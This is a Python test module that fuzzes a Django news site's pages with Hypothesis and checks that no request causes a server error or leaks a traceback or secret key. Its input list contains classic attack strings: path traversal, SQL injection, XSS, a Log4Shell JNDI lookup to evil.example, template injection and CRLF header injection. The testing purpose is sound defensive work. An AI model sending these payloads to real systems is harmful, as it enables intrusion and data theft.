"""
Hostile and random input at every reader URL: no answer is ever a server error.

Hypothesis throws query strings, cursors, slugs, paths, search queries, page numbers,
headers and methods at the pages a reader can reach, on a small seeded newsroom, through
Django's test client (which re-raises any exception a view lets escape, so a 500 fails
the test with its traceback). Every answer must be one a reader or crawler can act on:
a page, a redirect, "not modified", or a 400/404/405/410 page.

Each test runs a fixed number of examples and checks it made that many requests; the
totals and the status codes seen are printed in the summary at the end of the run.
"""

import string
from collections import Counter
from urllib.parse import quote

import pytest
from django.conf import settings as django_settings
from django.core import signing
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from newsroom.stream import CURSOR_SALT, encode_cursor
from tests import pages
from tests.newsroom.conftest import FUZZ_COUNTS
from tests.newsroom_data import build_newsroom

pytestmark = pytest.mark.django_db

ANSWERS = {200, 301, 302, 304, 400, 404, 405, 410}
# Unsafe methods meet the CSRF check before any view: 403 is their proper answer.
UNSAFE_METHOD_ANSWERS = ANSWERS | {403}
EXAMPLES = 150

fuzz = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

HOSTILE = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "%00",
    "..",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/",
    "' OR '1'='1",
    "1; DROP TABLE articles_article; --",
    '" UNION SELECT password FROM auth_user --',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "\u202e\u0000\ufeff",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🗞️",
    "περιεχόμενο",
    "Ünïcödé-slug",
    "\ud800",
    "２",
    "²",
    "٣",
    "-1",
    "0",
    "1e9",
    "NaN",
    "9" * 30,
    "9" * 5000,
    "x" * 10_000,
    "a" * 300,
    "%",
    "%%",
    "%zz",
    "%C0%AF",
    "%E2%80%AE",
    "&&&===",
    "[]",
    "{}",
    "null",
    "true",
    "\r\nSet-Cookie: evil=1",
]


def text_or_hostile(max_size=60):
    """Anything a URL or form field could carry: hostile classics, or random unicode."""
    return st.one_of(
        st.sampled_from(HOSTILE),
        st.text(max_size=max_size),
        st.text(alphabet=string.printable, max_size=max_size),
        st.integers(min_value=-(10**20), max_value=10**20).map(str),
    )


# Page numbers: small, past any 64-bit column, too long for int(), or digits of other scripts.
NUMBERS = st.one_of(
    st.integers(min_value=-5, max_value=50).map(str),
    st.integers(min_value=2**31 - 2, max_value=10**40).map(str),
    st.integers(min_value=4290, max_value=6000).map(lambda digits: "9" * digits),
    st.text(alphabet=st.characters(categories=["Nd", "No"]), min_size=1, max_size=4),
    st.sampled_from(["1.5", "1e3", " 1", "+1", "0x10", "1_000"]),
)


def sendable(value):
    """Lone surrogates cannot travel in UTF-8; a browser would send U+FFFD instead."""
    return value.encode("utf-8", "surrogatepass").decode("utf-8", "replace")


def percent_encoded(value):
    return quote(sendable(value), safe="")


@pytest.fixture
def newsroom(db):
    return build_newsroom(2)


@pytest.fixture
def reader_urls(newsroom):
    """Every page a reader can reach, with the seeded objects' addresses."""
    return [pages.url(page, newsroom) for page in pages.READER_PAGES]


@pytest.fixture
def fetch(request):
    """fetch(path, **extra) -> response, failing on a 500 and counting every answer."""
    client = Client()
    counts = request.config.stash.setdefault(FUZZ_COUNTS, Counter())
    made = Counter()

    def get(path, method="get", allowed=ANSWERS, **extra):
        path = sendable(path)
        response = getattr(client, method)(path, **extra)
        counts[response.status_code] += 1
        made["requests"] += 1
        assert response.status_code in allowed, (method, path, extra, response.status_code)
        if response.status_code >= 400 and method != "head":
            # An error page, never a stack trace or a secret.
            assert b"Traceback" not in response.content
            assert django_settings.SECRET_KEY.encode() not in response.content
        return response

    get.made = made
    return get


def with_query(path, params):
    separator = "&" if "?" in path else "?"
    return path + separator + "&".join(f"{key}={value}" for key, value in params)


QUERY_KEYS = ["q", "page", "cursor", "kind", "tag", "partial", "format", "utm_source", "x"]
QUERY_VALUES = st.one_of(text_or_hostile(), NUMBERS)


def test_hostile_query_strings_at_every_reader_url(reader_urls, fetch):
    @fuzz
    @given(
        data=st.data(),
        params=st.lists(
            st.tuples(
                st.one_of(st.sampled_from(QUERY_KEYS), text_or_hostile(12)),
                QUERY_VALUES,
                st.booleans(),
            ),
            max_size=5,
        ),
    )
    def example(data, params):
        path = data.draw(st.sampled_from(reader_urls))
        # Half encoded as a browser would, half raw as a bot might send them.
        query = [
            (percent_encoded(key), percent_encoded(value)) if encode else (key, value)
            for key, value, encode in params
        ]
        fetch(with_query(path, query))

    example()
    assert fetch.made["requests"] >= EXAMPLES


SLUGGED = [
    *pages.slug_templates(),
    "/sitemap-{}.xml",
    "/{}",
    "/{}/",
    "/static/{}",
    "/media/{}",
    "/media/photos/{}",
]


def test_hostile_slugs_and_paths(db, newsroom, fetch):
    @fuzz
    @given(
        template=st.sampled_from(SLUGGED),
        slug=st.one_of(
            text_or_hostile(),
            st.sampled_from(["article-0", "world", "climate", "marta", "quote-0", "video-0"]).map(
                lambda slug: slug + "/../../admin"
            ),
            st.text(min_size=2000, max_size=2500),
        ),
        encode=st.booleans(),
    )
    def example(template, slug, encode):
        # Without encoding, the client sends the path as it is (NUL bytes, "..", spaces).
        part = percent_encoded(slug) if encode else slug.replace("?", "%3F").replace("#", "%23")
        fetch(template.format(part))

    example()
    assert fetch.made["requests"] >= EXAMPLES


def test_forged_and_broken_cursors(newsroom, fetch):
    article = newsroom["articles"][-1]
    genuine = encode_cursor((article.published_at, "article", article.pk))

    @fuzz
    @given(
        data=st.data(),
        forged=st.one_of(
            st.just(genuine),
            text_or_hostile(400),
            # Genuinely signed by the site, but naming something that is not an item.
            st.recursive(
                st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=40),
                lambda children: (
                    st.lists(children, max_size=4)
                    | st.dictionaries(st.text(max_size=5), children, max_size=3)
                ),
                max_leaves=8,
            ).map(lambda payload: signing.Signer(salt=CURSOR_SALT).sign_object(payload)),
            st.tuples(
                st.one_of(
                    st.sampled_from(["2025-01-01T00:00:00+00:00", "9999-12-31T23:59:59+00:00"]),
                    st.datetimes(timezones=st.timezones()).map(lambda when: when.isoformat()),
                    text_or_hostile(30),
                ),
                st.one_of(st.sampled_from(["article", "quote", "video"]), text_or_hostile(10)),
                st.one_of(
                    st.integers(min_value=-(2**70), max_value=2**70),
                    st.sampled_from([2**63, -(2**63) - 1]),
                    text_or_hostile(10),
                ),
            ).map(lambda triple: signing.Signer(salt=CURSOR_SALT).sign_object(list(triple))),
        ),
        mangle=st.sampled_from(["as-is", "truncate", "flip", "encode"]),
    )
    def example(data, forged, mangle):
        path = data.draw(
            st.sampled_from(
                [
                    "/feed/",
                    "/feed/?kind=video",
                    "/feed/?tag=climate",
                    "/sections/world/",
                    "/tags/climate/",
                    "/authors/marta/",
                ]
            )
        )
        cursor = forged
        if mangle == "truncate":
            cursor = cursor[: len(cursor) // 2]
        elif mangle == "flip" and cursor:
            cursor = cursor[:-1] + ("A" if cursor[-1] != "A" else "B")
        elif mangle == "encode":
            cursor = percent_encoded(cursor)
        partial = data.draw(st.sampled_from(["", "&partial=1"]))
        fetch(with_query(path, [("cursor", cursor)]) + partial)

    example()
    assert fetch.made["requests"] >= EXAMPLES


def test_search_queries_and_page_numbers(newsroom, fetch):
    @fuzz
    @given(
        query=st.one_of(
            text_or_hostile(300),
            st.lists(
                st.sampled_from(['"', "OR", "-", "harbour", "*", ":", "&", "|", "!", "("])
            ).map(" ".join),
        ),
        page=st.one_of(st.none(), text_or_hostile(), NUMBERS),
    )
    def example(query, page):
        params = [("q", percent_encoded(query))]
        if page is not None:
            params.append(("page", percent_encoded(page)))
        fetch(with_query("/search/", params))

    example()
    assert fetch.made["requests"] >= EXAMPLES


HEADER_VALUE = st.one_of(
    st.sampled_from(HOSTILE).filter(lambda value: all(ord(c) < 256 for c in value)),
    st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0xFF), max_size=200),
    st.text(alphabet=string.printable, min_size=4000, max_size=9000),
)
HEADERS = {
    "HTTP_ACCEPT": st.one_of(
        st.sampled_from(
            [
                "*/*",
                "application/json",
                "application/rss+xml",
                "text/html;q=0,*/*;q=0",
                "text/html;q=abc",
                ";;;,,,",
                "image/*;q=1.5",
            ]
        ),
        HEADER_VALUE,
    ),
    "HTTP_ACCEPT_LANGUAGE": HEADER_VALUE,
    "HTTP_ACCEPT_ENCODING": st.one_of(st.sampled_from(["gzip, br", "identity;q=0"]), HEADER_VALUE),
    "HTTP_IF_NONE_MATCH": st.one_of(
        st.sampled_from(['"abc"', "*", 'W/"x", "y"', '"']), HEADER_VALUE
    ),
    "HTTP_IF_MODIFIED_SINCE": st.one_of(
        st.sampled_from(
            [
                "Mon, 01 Jan 1990 00:00:00 GMT",
                "Fri, 31 Dec 9999 23:59:59 GMT",
                "Sun, 06 Nov 1994 08:49:37 GMT",
                "not a date",
            ]
        ),
        HEADER_VALUE,
    ),
    "HTTP_IF_MATCH": HEADER_VALUE,
    "HTTP_RANGE": st.one_of(st.sampled_from(["bytes=0-10", "bytes=-1", "bytes=9-1"]), HEADER_VALUE),
    "HTTP_COOKIE": st.one_of(
        st.sampled_from(
            [
                "sessionid=",
                "sessionid=x" * 100,
                "sessionid=abc; csrftoken=../../",
                "=;=;=",
                'a="\\"',
                "sessionid=\x00",
            ]
        ),
        HEADER_VALUE,
    ),
    "HTTP_USER_AGENT": HEADER_VALUE,
    "HTTP_REFERER": HEADER_VALUE,
    "HTTP_X_FORWARDED_FOR": st.one_of(st.sampled_from(["1.2.3.4, ::1", "unknown"]), HEADER_VALUE),
    "HTTP_X_FORWARDED_PROTO": HEADER_VALUE,
    "HTTP_X_FORWARDED_HOST": HEADER_VALUE,
    "HTTP_AUTHORIZATION": HEADER_VALUE,
    "HTTP_HOST": st.sampled_from(
        [
            "testserver",
            "localhost",
            "127.0.0.1:8000",
            "[::1]",
            "evil.example",
            "localhost:notaport",
            "localhost/../",
            "",
        ]
    ),
}


@pytest.fixture(params=[False, True], ids=["uncached", "page-cache"])
def page_cache(request, settings):
    """The headers run through the page cache too, as in production."""
    settings.PAGE_CACHE_ENABLED = request.param
    settings.FRAGMENT_CACHE_ENABLED = request.param


def test_odd_headers(reader_urls, page_cache, fetch):
    @fuzz
    @given(
        data=st.data(),
        headers=st.fixed_dictionaries({}, optional=HEADERS),
        method=st.sampled_from(["get", "get", "get", "head"]),
    )
    def example(data, headers, method):
        path = data.draw(st.sampled_from(reader_urls))
        fetch(path, method=method, **headers)
        if method == "get" and "HTTP_HOST" not in headers:
            # Asking again with the page's own validator must give 304 or the page itself.
            first = fetch(path)
            if first.has_header("ETag"):
                fetch(path, **{**headers, "HTTP_IF_NONE_MATCH": first["ETag"]})

    example()
    assert fetch.made["requests"] >= EXAMPLES


def test_other_methods(reader_urls, fetch):
    @fuzz
    @given(
        data=st.data(),
        method=st.sampled_from(["post", "put", "patch", "delete", "options", "trace"]),
        body=st.binary(max_size=200),
    )
    def example(data, method, body):
        path = data.draw(st.sampled_from(reader_urls))
        fetch(path, method=method, allowed=UNSAFE_METHOD_ANSWERS, data=body, content_type="x/y")

    example()
    assert fetch.made["requests"] >= EXAMPLES


@pytest.mark.parametrize(
    ("path", "cookie"),
    [
        ("/nothing%00/", ""),
        ("/feed/?tag=a%00b", ""),
        ("/search/?q=a%00b", ""),
        ("/articles/article-0/", "sessionid=abcdefgh\x00ijk"),
    ],
)
def test_nul_characters_get_the_400_page(newsroom, fetch, path, cookie):
    """PostgreSQL refuses NUL in text, so none may reach a query (a 500 there, before)."""
    response = fetch(path, HTTP_COOKIE=cookie)
    assert response.status_code == 400
    assert b'class="site-header"' in response.content
